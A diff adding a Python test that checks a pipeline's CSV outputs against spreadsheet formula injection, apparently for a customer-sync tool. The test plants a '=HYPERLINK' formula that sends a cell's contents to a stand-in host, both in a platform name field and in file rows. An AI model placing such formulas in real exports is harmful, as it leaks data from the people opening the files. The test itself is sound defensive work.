@@ -22,6 +22,7 @@ from pipelines.plan.make import PlanOptions, PlanResult, make_plan
 from pipelines.plan.model import Plan, PlannedOperation
 from pipelines.plan.summary import summary
 from sources.errors import UsageError
+from sources.files.formulas import neutralize
 from tests.pipelines.bridge import Bridge, bridge, command
 from tests.sources.files.test_workbook import sheet, text, workbook
 
@@ -531,6 +532,23 @@ def test_rows_of_the_platforms_list_that_were_refused_are_told(platform: Bridge)
     platform.pull("customers")
     told = (customers("E007;Ana;ana@example.com;;N1\n").folder / "summary.md").read_text("utf-8")
     assert "\n2 rows of the platform's list are in quarantine and were not compared" in told
+
+
+def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(platform: Bridge) -> None:
+    """Issue 12, item 3: a name that somebody typed into the platform, and one in the file."""
+    formula = '=HYPERLINK("http://x.test/?"&A1)'
+    platform.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
+    platform.pull("customers")
+    quoted = formula.replace('"', '""')
+    made = customers(f'E1;Ana;e1@x.es;;\nE1;"{quoted}";other@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\n')
+    alone = customers("E1;Ana;e1@x.es;;\n")
+    text = (alone.folder / "differences.csv").read_text("utf-8")
+    assert f"'{formula}" in next(iter(csv.DictReader(text.splitlines())))["platform_value"]
+    for folder in (made.folder, alone.folder):
+        for path in folder.glob("*.csv"):
+            with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8", newline="") as file:
+                for row in csv.reader(file, delimiter=";" if path.name == "rejects.csv" else ","):
+                    assert [cell for cell in row if neutralize(cell) != cell] == [], path
 
 
 def test_customers_need_a_warehouse_of_the_same_host(platform: Bridge) -> None:
